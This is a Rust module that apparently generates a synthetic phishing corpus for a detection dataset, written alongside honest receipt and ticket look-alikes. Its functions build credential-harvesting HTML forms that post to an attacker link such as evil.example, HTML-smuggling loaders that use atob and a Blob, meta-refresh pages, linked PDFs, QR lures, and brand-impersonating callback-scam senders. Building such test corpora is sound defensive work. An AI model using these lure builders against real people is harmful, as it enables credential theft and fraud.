//! Content-borne attacks: lures whose bait travels in an attachment, a QR
//! image or a phone number rather than a link in the body (an HTML page
//! with a credential form, a smuggled page or a meta refresh; a PDF with a
//! link annotation or a phone number; a QR code; a callback number), and the
//! attachments of the honest mail that looks like them (invoices as PDFs,
//! tickets with QR codes, HTML receipts).
//!
//! Everything here is written from the message's seeded generator, so the
//! same seed writes the same bytes. The documents are real (a PDF that
//! parses, a PNG that decodes to its URL) but carry no active content
//! beyond what the lure needs. This module does not judge anything.

use super::ambiguity::SpoofForm;
use super::attack::{local_of, Forgery};
use super::compose::{mailbox, Attachment};
use super::template::Lang;
use super::world::Person;
use crate::error::CorpusError;
use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use impostor_features::Technique;
use lopdf::content::{Content, Operation};
use lopdf::{dictionary, Document, Object, Stream, StringFormat};
use rand::seq::SliceRandom;
use rand::Rng;
use rand_chacha::ChaCha8Rng;
use serde::Deserialize;
use std::fmt;
use std::sync::OnceLock;

const BRANDS: &str = include_str!("../../../../datasets/gen/brands.toml");

/// What carries a message's bait: labels.tsv's `payload` column.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Payload {
    /// The text of the body (a link or a request), as every message
    /// without an attachment or callback number.
    Body,
    /// An attached HTML page (.html, .htm, .shtml).
    HtmlAttachment,
    /// An attached PDF.
    Pdf,
    /// A QR code image, inline or attached.
    QrImage,
    /// A phone number to call, no link.
    Callback,
}

impl Payload {
    /// Every payload, in order.
    pub const ALL: [Payload; 5] = [
        Payload::Body,
        Payload::HtmlAttachment,
        Payload::Pdf,
        Payload::QrImage,
        Payload::Callback,
    ];

    /// The name written in labels.tsv.
    pub const fn code(self) -> &'static str {
        match self {
            Payload::Body => "body",
            Payload::HtmlAttachment => "html_attachment",
            Payload::Pdf => "pdf",
            Payload::QrImage => "qr_image",
            Payload::Callback => "callback",
        }
    }

    /// The payload a labels.tsv code names.
    pub fn from_code(code: &str) -> Option<Payload> {
        Payload::ALL.into_iter().find(|p| p.code() == code)
    }
}

impl fmt::Display for Payload {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.code())
    }
}

/// A brand named by callback lures and sending genuine receipts, orders
/// and tickets from its own domain (datasets/gen/brands.toml).
#[derive(Clone, Debug, Deserialize)]
pub struct Brand {
    /// The name shown.
    pub name: String,
    /// `retail` (orders, renewals, payments) or `ticket` (boarding passes,
    /// event tickets).
    pub role: String,
    /// `en` or `ja`.
    pub lang: String,
    /// Its own mail domain.
    pub domain: String,
    /// What an order, renewal or ticket is for.
    pub products: Vec<String>,
}

#[derive(Deserialize)]
struct BrandFile {
    brand: Vec<Brand>,
}

/// The built-in brands, parsed.
pub fn brands() -> Result<Vec<Brand>, CorpusError> {
    let file: BrandFile = toml::from_str(BRANDS).map_err(|source| CorpusError::GeneratorData {
        what: "datasets/gen/brands.toml".into(),
        source,
    })?;
    Ok(file.brand)
}

fn builtin_brands() -> &'static [Brand] {
    static B: OnceLock<Vec<Brand>> = OnceLock::new();
    B.get_or_init(|| brands().unwrap_or_default())
}

/// A brand of `role` writing in `lang`; `None` only if brands.toml has
/// none (it is tested to have some of each).
pub fn brand(rng: &mut ChaCha8Rng, lang: Lang, role: &str) -> Option<&'static Brand> {
    let code = match lang {
        Lang::En => "en",
        Lang::Ja => "ja",
    };
    builtin_brands()
        .iter()
        .filter(|b| b.role == role && b.lang == code)
        .collect::<Vec<_>>()
        .choose(rng)
        .copied()
}

/// A callback lure's number, in the forms such lures use (letters for
/// digits included), from fictional ranges: NANP 555-01xx, Japan
/// 0120-000-xxx and 050-0000-xxxx.
pub fn callback_number(rng: &mut ChaCha8Rng, lang: Lang) -> String {
    let tail = rng.gen_range(100..200);
    match (lang, rng.gen_range(0..4)) {
        (Lang::En, 0) => format!("+1 (888) 555-0{tail}"),
        (Lang::En, 1) => format!("1-8OO-555-0{tail}"),
        (Lang::En, 2) => format!("+1-844-555-0{tail}"),
        (Lang::En, _) => format!("(877) 555-0{tail}"),
        (Lang::Ja, 0 | 1) => format!("0120-000-{tail}"),
        (Lang::Ja, 2) => format!("050-0000-0{tail}"),
        (Lang::Ja, _) => format!("0120-000-{tail}（フリーダイヤル）"),
    }
}

/// A brand's genuine customer-service number (fictional ranges too).
pub fn service_number(rng: &mut ChaCha8Rng, lang: Lang) -> String {
    let tail = rng.gen_range(100..200);
    match lang {
        Lang::En => format!("1-800-555-0{tail}"),
        Lang::Ja => format!("0120-000-{tail}"),
    }
}

/// A consumer charge: a subscription, a device, a parcel fee.
pub fn charge(rng: &mut ChaCha8Rng, lang: Lang) -> String {
    match lang {
        Lang::En => format!(
            "${}.{}",
            rng.gen_range(79..900),
            ["99", "00", "49"][rng.gen_range(0..3)]
        ),
        Lang::Ja => format!(
            "{},{}円",
            rng.gen_range(3..90),
            ["800", "980", "500"][rng.gen_range(0..3)]
        ),
    }
}

/// A content-borne attack: the lure category it carries and its payload.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct PayloadLure {
    /// One of [`PAYLOAD_LURE_CATEGORIES`](super::template::PAYLOAD_LURE_CATEGORIES).
    pub category: &'static str,
    /// What carries it.
    pub payload: Payload,
}

impl PayloadLure {
    /// Whether the lure names a brand and sends from free mail: a callback.
    pub fn is_callback(self) -> bool {
        self.category.starts_with("callback")
    }
}

/// Whether attack number `n` (technique, header-From form) carries a
/// payload, and which; `roll` comes from the attack's own generator, so
/// the choice is fixed by the seed and leaves the body attacks' bytes as
/// they were. About a fifth of attacks carry one. The forging must stay
/// real: a callback names a brand from free mail, so only free-mail
/// impersonation carries it; a DKIM replay fixes its body, so it carries
/// none.
pub fn choose(rng: &mut ChaCha8Rng, technique: Technique, form: SpoofForm) -> Option<PayloadLure> {
    if technique == Technique::HeaderFromSpoof && form.is_dkim_replay() {
        return None;
    }
    // Per mille: HTML attachment, PDF, QR image, callback, PDF callback.
    let shares: [u32; 5] = match technique {
        Technique::FreemailImpersonation => [40, 40, 0, 130, 60],
        Technique::LookalikeDomain => [60, 60, 80, 0, 0],
        Technique::EnvelopeFromSpoof => [70, 70, 30, 0, 0],
        Technique::HeaderFromSpoof => [70, 70, 50, 0, 0],
        Technique::AccountCompromise => [60, 60, 50, 0, 0],
    };
    const LURES: [PayloadLure; 5] = [
        PayloadLure {
            category: "html_attachment",
            payload: Payload::HtmlAttachment,
        },
        PayloadLure {
            category: "pdf_lure",
            payload: Payload::Pdf,
        },
        PayloadLure {
            category: "qr_lure",
            payload: Payload::QrImage,
        },
        PayloadLure {
            category: "callback",
            payload: Payload::Callback,
        },
        PayloadLure {
            category: "callback_pdf",
            payload: Payload::Pdf,
        },
    ];
    let mut roll = rng.gen_range(0..1000u32);
    for (share, lure) in shares.iter().zip(LURES) {
        if roll < *share {
            return Some(lure);
        }
        roll -= share;
    }
    None
}

/// A callback lure's sender: the brand's name on the free-mail address
/// the forgery chose (its local part made the brand's), signed with the
/// brand's name.
pub(super) fn as_brand(rng: &mut ChaCha8Rng, forgery: &mut Forgery, brand: &Brand) {
    let Some((_, value)) = forgery
        .identity
        .iter_mut()
        .find(|(n, _)| n.eq_ignore_ascii_case("from"))
    else {
        return;
    };
    let free = forgery
        .envelope
        .rsplit_once('@')
        .map_or("gmail.com", |(_, d)| d)
        .to_string();
    let stem: String = brand
        .domain
        .split('.')
        .next()
        .unwrap_or("support")
        .chars()
        .filter(char::is_ascii_alphanumeric)
        .collect();
    let desk = ["billing", "support", "service", "renewal", "care"][rng.gen_range(0..5)];
    let local = format!("{stem}.{desk}{}", rng.gen_range(10..999));
    let address = format!("{local}@{free}");
    let shown = match (brand.name.is_ascii(), rng.gen_range(0..3)) {
        (true, 0) => format!("{} Billing", brand.name),
        (true, 1) => format!("{} Support", brand.name),
        (false, 0) => format!("{} カスタマーセンター", brand.name),
        _ => brand.name.clone(),
    };
    *value = mailbox(&shown, &address);
    forgery.shown_name = brand.name.clone();
    forgery.envelope = address;
    if let Some((_, reply)) = forgery
        .identity
        .iter_mut()
        .find(|(n, _)| n.eq_ignore_ascii_case("reply-to"))
    {
        let other = reply
            .rsplit_once('@')
            .map_or("outlook.com", |(_, d)| d)
            .to_string();
        *reply = format!("{}.help@{other}", local_of(&local));
    }
}

/// The forms an HTML attachment's page takes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum HtmlForm {
    /// A sign-in form posting to the attacker's host.
    CredentialForm,
    /// The form page base64-encoded, decoded with `atob` into a Blob and
    /// opened (HTML smuggling).
    Smuggled,
    /// A meta refresh to the attacker's link.
    MetaRefresh,
}

fn escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

fn html_head(lang: Lang, title: &str, style: &str) -> String {
    let code = if lang == Lang::Ja { "ja" } else { "en" };
    format!(
        "<!DOCTYPE html>\n<html lang=\"{code}\">\n<head>\n<meta charset=\"utf-8\">\n<title>{}</title>\n<style>{style}</style>\n</head>\n",
        escape(title)
    )
}

/// The page of an HTML-attachment lure: `document`'s lines (the first the
/// title) and, by `form`, a sign-in form posting to `link`, that page
/// smuggled through `atob` and a Blob, or a meta refresh to `link`.
pub fn lure_page(form: HtmlForm, lang: Lang, document: &str, link: &str, email: &str) -> String {
    let mut lines = document.lines().map(str::trim).filter(|l| !l.is_empty());
    let title = lines.next().unwrap_or("Document");
    let (password, submit) = match lang {
        Lang::En => ("Password", "Sign in"),
        Lang::Ja => ("パスワード", "サインイン"),
    };
    let style = "body{font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2}.box{width:380px;margin:70px auto;background:#fff;padding:30px;border-radius:4px}input{width:100%;margin:6px 0;padding:8px}button{background:#0067b8;color:#fff;border:0;padding:9px 24px}";
    let mut page = html_head(lang, title, style);
    if form == HtmlForm::MetaRefresh {
        page.push_str(&format!(
            "<meta http-equiv=\"refresh\" content=\"0; url={}\">\n",
            escape(link)
        ));
    }
    page.push_str("<body>\n<div class=\"box\">\n");
    page.push_str(&format!("<h2>{}</h2>\n", escape(title)));
    for l in lines {
        page.push_str(&format!("<p>{}</p>\n", escape(l)));
    }
    if form != HtmlForm::MetaRefresh {
        page.push_str(&format!(
            "<form action=\"{}\" method=\"post\">\n<input type=\"email\" name=\"login\" value=\"{}\" readonly>\n<input type=\"password\" name=\"passwd\" placeholder=\"{password}\" required>\n<button type=\"submit\">{submit}</button>\n</form>\n",
            escape(link),
            escape(email)
        ));
    }
    page.push_str("</div>\n</body>\n</html>\n");
    if form != HtmlForm::Smuggled {
        return page;
    }
    // The whole page travels encoded; the attachment itself shows only a
    // loader, as smuggled pages do.
    let encoded = STANDARD.encode(page.as_bytes());
    let loading = match lang {
        Lang::En => "Loading document, please wait...",
        Lang::Ja => "文書を読み込んでいます。しばらくお待ちください。",
    };
    let mut out = html_head(lang, title, "body{font-family:Arial,sans-serif}");
    out.push_str(&format!("<body>\n<p>{loading}</p>\n<script>\n"));
    out.push_str(&format!("var d=\"{encoded}\";\n"));
    out.push_str("var s=atob(d);var u=new Uint8Array(s.length);for(var i=0;i<s.length;i++){u[i]=s.charCodeAt(i);}\n");
    out.push_str(
        "var b=new Blob([u],{type:\"text/html\"});window.location.href=URL.createObjectURL(b);\n",
    );
    out.push_str("</script>\n</body>\n</html>\n");
    out
}

/// An honest HTML attachment (a receipt, a newsletter issue): `document`'s
/// lines, the first the title, URLs as links; no form, no script.
pub fn honest_page(lang: Lang, document: &str, sender: &str) -> String {
    let mut lines = document.lines().map(str::trim).filter(|l| !l.is_empty());
    let title = lines.next().unwrap_or("Receipt");
    let style = "body{font-family:Helvetica,Arial,sans-serif;color:#222}table{border-collapse:collapse;width:560px}td{padding:6px;border-bottom:1px solid #ddd}";
    let mut page = html_head(lang, title, style);
    page.push_str(&format!("<body>\n<h1>{}</h1>\n<table>\n", escape(title)));
    for l in lines {
        let cell: Vec<String> = l
            .split(' ')
            .map(|w| {
                if w.starts_with("https://") {
                    format!("<a href=\"{0}\">{0}</a>", escape(w))
                } else {
                    escape(w)
                }
            })
            .collect();
        page.push_str(&format!("<tr><td>{}</td></tr>\n", cell.join(" ")));
    }
    page.push_str(&format!(
        "</table>\n<p style=\"font-size:11px;color:#777\">{}</p>\n</body>\n</html>\n",
        escape(sender)
    ));
    page
}

/// Lines of at most `width` characters, broken at spaces where there are
/// some (Japanese text is broken anywhere).
fn wrap(line: &str, width: usize) -> Vec<String> {
    let mut out = Vec::new();
    let mut current = String::new();
    for word in line.split(' ') {
        let extra = usize::from(!current.is_empty());
        if current.chars().count() + extra + word.chars().count() <= width {
            if !current.is_empty() {
                current.push(' ');
            }
            current.push_str(word);
            continue;
        }
        if !current.is_empty() {
            out.push(std::mem::take(&mut current));
        }
        // A word longer than a line (a URL, Japanese text) is cut, unless
        // it is a URL: a link is never broken.
        if word.starts_with("https://") {
            out.push(word.to_string());
            continue;
        }
        let chars: Vec<char> = word.chars().collect();
        for chunk in chars.chunks(width.max(1)) {
            current = chunk.iter().collect();
            if current.chars().count() == width {
                out.push(std::mem::take(&mut current));
            }
        }
    }
    if !current.is_empty() {
        out.push(current);
    }
    out
}

/// The ASCII and other runs of `line`, in order.
fn runs(line: &str) -> Vec<(bool, String)> {
    let mut out: Vec<(bool, String)> = Vec::new();
    for c in line.chars() {
        let ascii = c.is_ascii();
        match out.last_mut() {
            Some((a, s)) if *a == ascii => s.push(c),
            _ => out.push((ascii, c.to_string())),
        }
    }
    out
}

/// A ToUnicode CMap for the UTF-16 codes of the Japanese font (the
/// Basic Multilingual Plane, surrogates left out), so text extraction
/// reads the text back.
fn to_unicode_cmap() -> Vec<u8> {
    let mut ranges = Vec::new();
    for hi in (0u32..=0xFF).filter(|h| !(0xD8..=0xDF).contains(h)) {
        ranges.push(format!("<{0:02X}00> <{0:02X}FF> <{0:02X}00>", hi));
    }
    let mut cmap = String::from(
        "/CIDInit /ProcSet findresource begin\n12 dict begin\nbegincmap\n/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n/CMapName /Adobe-Identity-UCS def\n/CMapType 2 def\n1 begincodespacerange\n<0000> <FFFF>\nendcodespacerange\n",
    );
    for block in ranges.chunks(100) {
        cmap.push_str(&format!("{} beginbfrange\n", block.len()));
        for r in block {
            cmap.push_str(r);
            cmap.push('\n');
        }
        cmap.push_str("endbfrange\n");
    }
    cmap.push_str("endcmap\nCMapName currentdict /CMap defineresource pop\nend\nend\n");
    cmap.into_bytes()
}

/// A one-page PDF of `document`'s lines (the first a heading), Latin text
/// in Helvetica and Japanese in a CID font (KozMinPr6N, not embedded, as
/// Japanese business PDFs often are), with a `/Link` annotation (`/URI`)
/// over every https URL in the text.
pub fn pdf(document: &str) -> Result<Vec<u8>, CorpusError> {
    let mut doc = Document::with_version("1.5");
    let pages_id = doc.new_object_id();
    let latin = doc.add_object(dictionary! {
        "Type" => "Font",
        "Subtype" => "Type1",
        "BaseFont" => "Helvetica",
        "Encoding" => "WinAnsiEncoding",
    });
    let descriptor = doc.add_object(dictionary! {
        "Type" => "FontDescriptor",
        "FontName" => "KozMinPr6N-Regular",
        "Flags" => 6,
        "FontBBox" => vec![(-437).into(), (-340).into(), 1147.into(), 1317.into()],
        "ItalicAngle" => 0,
        "Ascent" => 1317,
        "Descent" => -349,
        "CapHeight" => 742,
        "StemV" => 80,
    });
    let cid_font = doc.add_object(dictionary! {
        "Type" => "Font",
        "Subtype" => "CIDFontType0",
        "BaseFont" => "KozMinPr6N-Regular",
        "CIDSystemInfo" => dictionary! {
            "Registry" => Object::string_literal("Adobe"),
            "Ordering" => Object::string_literal("Japan1"),
            "Supplement" => 6,
        },
        "FontDescriptor" => descriptor,
        "DW" => 1000,
    });
    let cmap = doc.add_object(Stream::new(dictionary! {}, to_unicode_cmap()));
    let japanese = doc.add_object(dictionary! {
        "Type" => "Font",
        "Subtype" => "Type0",
        "BaseFont" => "KozMinPr6N-Regular-UniJIS-UTF16-H",
        "Encoding" => "UniJIS-UTF16-H",
        "DescendantFonts" => vec![cid_font.into()],
        "ToUnicode" => cmap,
    });
    let mut ops = Vec::new();
    let mut annots: Vec<Object> = Vec::new();
    let mut y = 780.0f32;
    let (left, size) = (56.0f32, 11.0f32);
    for (i, raw) in document.lines().map(str::trim).enumerate() {
        let heading = i == 0;
        let font_size = if heading { 17.0 } else { size };
        let width = if raw.is_ascii() { 88 } else { 44 };
        let lines = if raw.is_empty() {
            vec![String::new()]
        } else {
            wrap(raw, width)
        };
        for line in lines {
            if y < 60.0 {
                break;
            }
            ops.push(Operation::new("BT", vec![]));
            ops.push(Operation::new("Td", vec![left.into(), y.into()]));
            let mut advance = 0.0f32;
            for (ascii, run) in runs(&line) {
                if ascii {
                    ops.push(Operation::new("Tf", vec!["F1".into(), font_size.into()]));
                    ops.push(Operation::new(
                        "Tj",
                        vec![Object::string_literal(run.as_bytes())],
                    ));
                    advance += run.len() as f32 * font_size * 0.52;
                } else {
                    let bytes: Vec<u8> = run.encode_utf16().flat_map(u16::to_be_bytes).collect();
                    ops.push(Operation::new("Tf", vec!["F2".into(), font_size.into()]));
                    ops.push(Operation::new(
                        "Tj",
                        vec![Object::String(bytes, StringFormat::Hexadecimal)],
                    ));
                    advance += run.chars().count() as f32 * font_size;
                }
            }
            ops.push(Operation::new("ET", vec![]));
            for word in line.split([' ', '：']) {
                if let Some(at) = word.find("https://") {
                    let uri = word.get(at..).unwrap_or(word);
                    let start = line
                        .find(uri)
                        .map_or(0, |b| line.get(..b).map_or(0, |p| p.chars().count()));
                    let x0 = left + start as f32 * font_size * 0.52;
                    let x1 = (x0 + uri.len() as f32 * font_size * 0.52).min(left + advance + 4.0);
                    let rect: Vec<Object> = vec![
                        x0.into(),
                        (y - 3.0).into(),
                        x1.max(x0 + 20.0).into(),
                        (y + font_size).into(),
                    ];
                    annots.push(Object::Dictionary(dictionary! {
                        "Type" => "Annot",
                        "Subtype" => "Link",
                        "Rect" => rect,
                        "Border" => vec![0.into(), 0.into(), 0.into()],
                        "A" => dictionary! {
                            "S" => "URI",
                            "URI" => Object::string_literal(uri.as_bytes()),
                        },
                    }));
                }
            }
            y -= font_size + 8.0;
        }
    }
    let content = Content { operations: ops };
    let encoded = content
        .encode()
        .map_err(|e| CorpusError::Invalid(format!("writing a PDF: {e}")))?;
    let content_id = doc.add_object(Stream::new(dictionary! {}, encoded));
    let annot_ids: Vec<Object> = annots
        .into_iter()
        .map(|a| doc.add_object(a).into())
        .collect();
    let mut page = dictionary! {
        "Type" => "Page",
        "Parent" => pages_id,
        "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
        "Contents" => content_id,
        "Resources" => dictionary! {
            "Font" => dictionary! { "F1" => latin, "F2" => japanese },
        },
    };
    if !annot_ids.is_empty() {
        page.set("Annots", annot_ids);
    }
    let page_id = doc.add_object(page);
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages",
            "Kids" => vec![page_id.into()],
            "Count" => 1,
        }),
    );
    let catalog = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages_id });
    doc.trailer.set("Root", catalog);
    let mut out = Vec::new();
    doc.save_to(&mut out)
        .map_err(|e| CorpusError::Invalid(format!("writing a PDF: {e}")))?;
    Ok(out)
}

/// A QR code of `data` as a greyscale PNG: modules of 6 pixels and the
/// quiet zone of 4 modules the standard asks for.
pub fn qr_png(data: &str) -> Result<Vec<u8>, CorpusError> {
    const SCALE: usize = 6;
    const QUIET: usize = 4;
    let code = qrcode::QrCode::new(data.as_bytes())
        .map_err(|e| CorpusError::Invalid(format!("a QR code of {data:?}: {e}")))?;
    let width = code.width();
    let colors = code.to_colors();
    let size = (width + 2 * QUIET) * SCALE;
    let mut pixels = vec![255u8; size * size];
    for (i, c) in colors.iter().enumerate() {
        if *c != qrcode::Color::Dark {
            continue;
        }
        let (mx, my) = (i % width + QUIET, i / width + QUIET);
        for row in my * SCALE..(my + 1) * SCALE {
            let start = row * size + mx * SCALE;
            if let Some(span) = pixels.get_mut(start..start + SCALE) {
                span.fill(0);
            }
        }
    }
    let mut out = Vec::new();
    let side =
        u32::try_from(size).map_err(|_| CorpusError::Invalid("a QR code too large".into()))?;
    let mut encoder = png::Encoder::new(&mut out, side, side);
    encoder.set_color(png::ColorType::Grayscale);
    encoder.set_depth(png::BitDepth::Eight);
    let bad = |e: png::EncodingError| CorpusError::Invalid(format!("writing a PNG: {e}"));
    let mut writer = encoder.write_header().map_err(bad)?;
    writer.write_image_data(&pixels).map_err(bad)?;
    writer.finish().map_err(bad)?;
    Ok(out)
}

/// A file name of `stem` (with a reference) and `ext`.
fn file_name(stem: &str, reference: &str, ext: &str) -> String {
    let reference: String = reference
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || *c == '-')
        .collect();
    if reference.is_empty() {
        format!("{stem}.{ext}")
    } else {
        format!("{stem}_{reference}.{ext}")
    }
}

/// The attachments of a content-borne attack: `document` (filled) as an
/// HTML page or PDF, or `link` as a QR image; none for a callback in the
/// body. `reference` is the lure's invoice or order number, for the file
/// name.
pub(super) fn attack_attachments(
    rng: &mut ChaCha8Rng,
    lure: PayloadLure,
    lang: Lang,
    document: &str,
    link: &str,
    recipient: &Person,
    reference: &str,
) -> Result<Vec<Attachment>, CorpusError> {
    let ja = lang == Lang::Ja;
    let attachment =
        |filename: String, content_type: &str, bytes: Vec<u8>, inline: bool| Attachment {
            filename,
            content_type: content_type.to_string(),
            bytes,
            inline,
        };
    Ok(match lure.payload {
        Payload::HtmlAttachment => {
            let form = [
                HtmlForm::CredentialForm,
                HtmlForm::Smuggled,
                HtmlForm::MetaRefresh,
            ][rng.gen_range(0..3)];
            let ext = ["html", "htm", "shtml"][rng.gen_range(0..3)];
            let stem = if ja {
                ["通知書", "文書", "確認書"][rng.gen_range(0..3)]
            } else {
                ["Remittance_Advice", "Secure_Document", "Message", "Payment"][rng.gen_range(0..4)]
            };
            let page = lure_page(form, lang, document, link, &recipient.address);
            vec![attachment(
                file_name(stem, reference, ext),
                "text/html",
                page.into_bytes(),
                false,
            )]
        }
        Payload::Pdf => {
            let stem = match (ja, lure.category) {
                (false, "callback_pdf") => ["Receipt", "Invoice"][rng.gen_range(0..2)],
                (true, "callback_pdf") => ["領収書", "ご請求書"][rng.gen_range(0..2)],
                (false, _) => ["Statement", "Document", "Invoice", "Notice"][rng.gen_range(0..4)],
                (true, _) => ["請求書", "通知書", "発注書"][rng.gen_range(0..3)],
            };
            vec![attachment(
                file_name(stem, reference, "pdf"),
                "application/pdf",
                pdf(document)?,
                false,
            )]
        }
        Payload::QrImage => {
            let inline = rng.gen_bool(0.6);
            let name = if inline {
                format!("image{:03}.png", rng.gen_range(1..10))
            } else if ja {
                "QRコード.png".to_string()
            } else {
                ["scan_me.png", "MFA_QR.png", "document_qr.png"][rng.gen_range(0..3)].to_string()
            };
            vec![attachment(name, "image/png", qr_png(link)?, inline)]
        }
        Payload::Body | Payload::Callback => Vec::new(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn every_payload_code_reads_back() {
        for p in Payload::ALL {
            assert_eq!(Payload::from_code(p.code()), Some(p));
        }
        assert_eq!(Payload::from_code("zip"), None);
    }

    #[test]
    fn brands_of_each_role_write_in_both_languages() {
        let all = brands().unwrap();
        for role in ["retail", "ticket"] {
            for lang in ["en", "ja"] {
                assert!(
                    all.iter()
                        .any(|b| b.role == role && b.lang == lang && !b.products.is_empty()),
                    "{role} {lang}"
                );
            }
        }
    }

    #[test]
    fn callback_numbers_are_fictional() {
        let mut rng = ChaCha8Rng::seed_from_u64(3);
        for _ in 0..200 {
            let en = callback_number(&mut rng, Lang::En);
            assert!(en.contains("555-01"), "{en}");
            let ja = callback_number(&mut rng, Lang::Ja);
            assert!(
                ja.starts_with("0120-000-") || ja.starts_with("050-0000-"),
                "{ja}"
            );
        }
    }

    #[test]
    fn a_smuggled_page_carries_the_form_only_encoded() {
        let page = lure_page(
            HtmlForm::Smuggled,
            Lang::En,
            "Viewer\nSign in",
            "https://evil.example/login/1",
            "a@b.example",
        );
        assert!(page.contains("atob(") && page.contains("new Blob("));
        assert!(!page.contains("<form"), "{page}");
        let form = lure_page(
            HtmlForm::CredentialForm,
            Lang::Ja,
            "ビューア\nサインイン",
            "https://evil.example/login/1",
            "a@b.example",
        );
        assert!(form.contains("<form action=\"https://evil.example/login/1\""));
        let honest = honest_page(
            Lang::En,
            "Receipt\nManage: https://shop.example/o/1",
            "Shop",
        );
        assert!(honest.contains("href=\"https://shop.example/o/1\""));
        assert!(!honest.contains("<form") && !honest.contains("<script"));
    }

    #[test]
    fn long_lines_wrap_without_breaking_links() {
        let w = wrap("word ".repeat(30).trim(), 20);
        assert!(w.iter().all(|l| l.chars().count() <= 20), "{w:?}");
        let w = wrap(
            "see https://a.example/very/long/path/that/goes/on/and/on",
            10,
        );
        assert!(w.contains(&"https://a.example/very/long/path/that/goes/on/and/on".to_string()));
        let w = wrap(&"請".repeat(50), 20);
        assert_eq!(w.len(), 3, "{w:?}");
    }
}
